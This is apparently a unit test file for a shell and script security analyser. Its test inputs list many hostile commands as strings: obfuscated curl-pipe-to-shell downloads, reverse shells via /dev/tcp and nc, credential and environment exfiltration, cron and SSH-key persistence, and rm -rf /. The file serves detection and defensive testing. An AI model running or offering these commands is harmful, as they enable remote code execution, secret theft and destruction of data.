using System.Text;
using Assay.Analysis.Testing;
using Assay.Contracts.Values;
using Assay.Inspect.Analysers.Script;
using Assay.Inspect.Analysers.Shell;

namespace Assay.Tests.Unit.Inspect.Analysers.Shell;

public sealed class ShellAnalyserTests
{
    private static async Task<Severity?> Worst(string script, string format = FileFormat.Shell) =>
        (await TestBed.For(new ShellAnalyser()).WithBytes(Encoding.UTF8.GetBytes(script)).As(format).RunAsync(TestContext.Current.CancellationToken)).Worst;

    [Theory]
    [InlineData("curl -fsSL http://127.0.0.1:9/x | bash")]
    [InlineData("curl -fsSL http://127.0.0.1:9/x \\\n  | sudo -E bash -s -- -y")]
    [InlineData("wget -qO- http://127.0.0.1:9/x|sh")]
    [InlineData("bash <(curl -s http://127.0.0.1:9/x)")]
    [InlineData("eval \"$(wget -qO- http://127.0.0.1:9/x)\"")]
    [InlineData("curl -o /tmp/x http://127.0.0.1:9/x && chmod +x /tmp/x && /tmp/x")]
    [InlineData("c''url -s http://127.0.0.1:9/x | ba\"\"sh")]
    [InlineData("a=cu; b=rl\n$a$b -s http://127.0.0.1:9/x | sh")]
    [InlineData("curl${IFS}-s${IFS}http://127.0.0.1:9/x|sh")]
    [InlineData("$'\\x63\\x75\\x72\\x6c' http://127.0.0.1:9/x | sh")]
    [InlineData("{curl,-s,http://127.0.0.1:9/x}|bash")]
    [InlineData("echo ZWNobyBhc3NheS1jYW5hcnk= | base64 -d | sh")]
    [InlineData("powershell -enc ZWNobyBhc3NheS1jYW5hcnk=")]
    [InlineData("bash -i >& /dev/tcp/127.0.0.1/9 0>&1")]
    [InlineData("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 9 > /tmp/f")]
    [InlineData("rm -rf ~")]
    [InlineData("rm -rf --no-preserve-root /")]
    [InlineData("(crontab -l; echo '* * * * * x') | crontab -")]
    [InlineData("echo 'curl http://127.0.0.1:9 -o- ' >> ~/.bashrc")]
    [InlineData("cat key.pub >> ~/.ssh/authorized_keys")]
    [InlineData("env | curl -X POST -d @- http://127.0.0.1:9/")]
    [InlineData("curl -F file=@$HOME/.aws/credentials http://127.0.0.1:9/")]
    [InlineData("python3 -c 'import os; os.system(\"echo assay-canary\")'")]
    [InlineData("chmod u+s /bin/bash")]
    [InlineData("$(rev <<< 'yranac-yassa ohce')")]
    [InlineData("dig $(base64 ~/.aws/credentials | head -c 60).collect.invalid")]
    [InlineData("sudo useradd -o -u 0 helper")]
    [InlineData("export LD_PRELOAD=./libfast.so")]
    [InlineData("cat$IFS/etc/passwd|nc${IFS}127.0.0.1${IFS}9; curl${IFS}-s$IFS$9http://127.0.0.1:9/x|sh")]
    public async Task What_would_harm_is_high_or_worse(string script) => (await Worst(script) >= Severity.High).ShouldBeTrue();

    [Theory]
    [InlineData("#!/bin/sh\nset -eu\necho hello")]
    [InlineData("pip install -r requirements.txt\npython train.py --lr 1e-4 \\\n  --epochs 3")]
    [InlineData("curl -s https://api.example.com/x | python -m json.tool")]
    [InlineData("curl -L https://huggingface.co/x/resolve/main/model.bin -o model.bin\ntar xzf x.tgz")]
    [InlineData("wget -qO- https://example.com/x.tar.gz | tar xz")]
    [InlineData("# curl http://x | sh\necho \"do not run: rm -rf x\"")]
    [InlineData("rm -rf build/ dist/ *.egg-info\nrm -rf /tmp/build")]
    [InlineData("echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc")]
    [InlineData("export CUDA_VISIBLE_DEVICES=0,1\nnohup python -u serve.py > log.txt 2>&1 &")]
    [InlineData("cat <<EOF > conf.yaml\ncommand: curl http://x | sh\nEOF")]
    [InlineData("export LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libtcmalloc.so.4\npython launch.py")]
    [InlineData("old=\"$IFS\"\nIFS=',' read -ra names <<< \"$1\"\nIFS=\"$old\"")]
    [InlineData("bwrap --bind /etc/resolv.conf /run/host/monitor/resolv.conf --dir /run/user/`id -u`")]
    [InlineData("eval \"$log\" | while read rev parents\ndo echo $rev\ndone")]
    [InlineData("curl -fsSL https://ollama.com/install.sh | sh")]
    [InlineData("curl -L https://example.com/tool-$(uname -s)-$(uname -m) -o tool")]
    [InlineData("npm adduser --registry https://npm.example.com")]
    [InlineData("ps aux | grep python | awk '{print $2}' | xargs kill")]
    public async Task What_honest_scripts_do_is_low(string script) => (await Worst(script)).ShouldBe(Severity.Low);

    [Fact]
    public async Task A_script_inside_a_model_file_is_suspicious() =>
        (await TestBed.For(new ShellAnalyser()).WithBytes("ls -la /"u8.ToArray()).As(FileFormat.Shell).InMember("run.sh").RunAsync(TestContext.Current.CancellationToken)).Worst.ShouldBe(Severity.Medium);

    [Theory]
    [InlineData("FROM python:3.12\nRUN pip install torch && \\\n  rm -rf /var/lib/apt/lists/*\nCMD [\"python\", \"app.py\"]", null)]
    [InlineData("FROM python\nRUN --mount=type=cache,target=/x curl http://127.0.0.1:9/x | sh", Severity.High)]
    [InlineData("FROM python\nENTRYPOINT [\"bash\", \"-c\", \"bash -i >& /dev/tcp/127.0.0.1/9 0>&1\"]", Severity.Critical)]
    public async Task The_steps_of_a_build_are_read(string file, Severity? severity) => (await Worst(file, FileFormat.Dockerfile)).ShouldBe(severity);

    [Theory]
    [InlineData("const { exec } = require('child_process'); exec(x)", Severity.Medium)]
    [InlineData("require('child_process').exec('echo assay-canary')", Severity.High)]
    [InlineData("eval(atob('YWxlcnQoMSk='))", Severity.High)]
    [InlineData("os.execute('echo assay-canary')", Severity.High)]
    [InlineData("// require('child_process').exec('x')\nexport const x = /a/.exec('b');", Severity.Info)]
    public async Task Scripts_of_other_languages_are_read(string source, Severity severity) =>
        (await TestBed.For(new ScriptAnalyser()).WithBytes(Encoding.UTF8.GetBytes(source)).As(FileFormat.Script).RunAsync(TestContext.Current.CancellationToken)).Worst.ShouldBe(severity);

    [Fact]
    public void Damaged_scripts_are_judged()
    {
        const string script = "a=cu; b=rl\n$a$b -s http://127.0.0.1:9/x | sh <<EOF\n'x' \"$(y)\" `z` {a,b} $'\\x41' \\\nEOF\n";
        var random = new Random(7);
        for (var round = 0; round < 500; round++)
        {
            var text = new StringBuilder(script);
            for (var i = 0; i < 5; i++) text[random.Next(text.Length)] = (char)random.Next(9, 127);
            ShellJudge.Judge(text.ToString(), TestContext.Current.CancellationToken).ShouldNotBeNull();
        }
    }
}
